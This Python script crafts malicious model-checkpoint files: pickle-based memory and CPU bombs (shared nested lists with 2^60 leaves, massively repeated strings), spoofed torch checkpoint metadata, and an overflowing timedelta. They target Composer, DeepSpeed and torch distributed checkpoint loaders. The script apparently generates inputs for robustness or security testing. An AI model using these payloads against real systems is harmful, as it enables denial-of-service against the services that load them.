import pickle, zipfile, io, sys, types, dataclasses

def torch_zip(obj, proto=2):
    b = io.BytesIO()
    with zipfile.ZipFile(b, 'w', zipfile.ZIP_STORED) as z:
        z.writestr('archive/data.pkl', pickle.dumps(obj, protocol=proto))
        z.writestr('archive/version', '3\n')
        z.writestr('archive/byteorder', 'little')
    return b.getvalue()

def out(name, sel, data):
    with open('/tmp/craft/' + name, 'wb') as f:
        f.write(bytes([sel]) + data)
    print(name, len(data) + 1)

# --- composer: pickleToJson of a shared nested list (2^60 leaves)
a = [1]
for i in range(60):
    a = [a, a]
st = {"state": {"model": {}, "integrations": {"huggingface": {"model": {"config": {"content": {"x": a}}}}}}}
out('composer_json_bomb', 0, torch_zip(st))
# composer: tokenizer lines, a long string referenced 30000 times
s = "y" * 20000
st = {"state": {"model": {}, "integrations": {"huggingface": {"model": {}, "tokenizer": {"vocab.txt": {"content": [s] * 3000}}}}}}
out('composer_tok_lines', 0, torch_zip(st))

# --- universal: param_shapes = [g] * N, g a dict of K names
g = {("p%d" % i): [1] for i in range(1000)}
ms = {"param_shapes": [g] * 10000, "module": None, "ds_version": "0.1"}
# selector: fixture 0 (zero2), folder opened, the file index of mp_rank_00_model_states.pt (filled in by caller)
open('/tmp/craft/universal_model.bin', 'wb').write(torch_zip(ms))

# --- dcp: planner_data key paths sharing one long list of one long string
mod = types.ModuleType('torch.distributed.checkpoint.metadata')
sys.modules['torch'] = types.ModuleType('torch')
sys.modules['torch.distributed'] = types.ModuleType('torch.distributed')
sys.modules['torch.distributed.checkpoint'] = types.ModuleType('torch.distributed.checkpoint')
sys.modules['torch.distributed.checkpoint.metadata'] = mod
sf = types.ModuleType('torch.distributed.checkpoint.filesystem')
sys.modules['torch.distributed.checkpoint.filesystem'] = sf
def mk(m, name, fields):
    c = dataclasses.make_dataclass(name, fields, unsafe_hash=True)
    c.__module__ = m.__name__
    c.__qualname__ = name
    setattr(m, name, c)
    return c
Metadata = mk(mod, 'Metadata', ['state_dict_metadata', 'planner_data', 'storage_data'])
BytesStorageMetadata = mk(mod, 'BytesStorageMetadata', [])
MetadataIndex = mk(mod, 'MetadataIndex', ['fqn', 'offset', 'index'])
StorageInfo = mk(sf, '_StorageInfo', ['relative_path', 'offset', 'length'])
long = "k" * 8000
path = [long] * 3000
bsm = BytesStorageMetadata()
info = StorageInfo('__0_0.distcp', 0, 10)
E = 400
names = ["f%d" % i for i in range(E)]
md = Metadata({n: bsm for n in names}, {n: path for n in names}, {MetadataIndex(n, None, None): info for n in names})
out('dcp_keypath_bomb', 0, pickle.dumps(md, protocol=2))

# --- composer: timedelta whose days overflow days*86400
class TD:
    def __reduce__(self):
        return (TDc, (2**62, 5, 0))
dt = types.ModuleType('datetime2')
TDc = type('timedelta', (), {})
TDc.__module__ = 'datetime'
import datetime
# pickle by reference needs datetime.timedelta to be TDc: patch temporarily
orig = datetime.timedelta
datetime.timedelta = TDc
st = {"state": {"model": {}, "timestamp": {"total_wct": TD()}}}
data = torch_zip(st)
datetime.timedelta = orig
out('composer_timedelta', 0, data)

# --- composer deepspeed tarball: the model states' client state is a shared nested list
import tarfile
a = [1]
for i in range(60):
    a = [a, a]
ms = {"module": {}, "buffer_names": [], "param_shapes": [], "client": a, "ds_version": "0.1"}
b = io.BytesIO()
with tarfile.open(fileobj=b, mode='w') as t:
    for name, data in [("composer_states.pt", torch_zip({"state": {"model": {}}})),
                       ("deepspeed/mp_rank_00_model_states.pt", torch_zip(ms))]:
        ti = tarfile.TarInfo(name); ti.size = len(data); t.addfile(ti, io.BytesIO(data))
out('composer_ds_json_bomb', 0, b.getvalue())
